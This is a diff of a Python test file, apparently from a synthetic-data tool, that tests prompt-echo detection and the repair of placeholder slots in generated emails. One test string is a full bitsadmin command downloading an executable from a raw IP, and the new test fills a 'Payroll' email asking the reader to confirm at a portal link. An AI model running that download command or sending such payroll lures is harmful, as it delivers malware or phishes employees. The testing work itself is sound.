@@ -130,3 +130,11 @@ def test_items_that_echo_the_prompt_are_caught():
     assert echoes_prompt("BITS Jobs (T1197): bitsadmin /create, /addfile to download and run a payload", e)
     assert echoes_prompt("bitsadmin /create, /addfile, /SetNotifyCmdLine, /resume", e)
     assert not echoes_prompt("bitsadmin /transfer upd /download /priority foreground http://91.2.3.4/a.exe C:\\Users\\Public\\a.exe", e)
+
+
+def test_email_placeholder_slots_are_repaired_or_removed():
+    from smallworld.synth import repair_email
+
+    text, n = repair_email("Subject: Payroll\nDear [Employee Name], confirm at [Portal Link] .\nThanks, [Your Name]", 3)
+    assert n == 3 and "[" not in text and "Dear " in text and not PLACEHOLDER.search(text)
+    assert repair_email("Subject: hi\nno slots here", 0) == ("Subject: hi\nno slots here", 0)
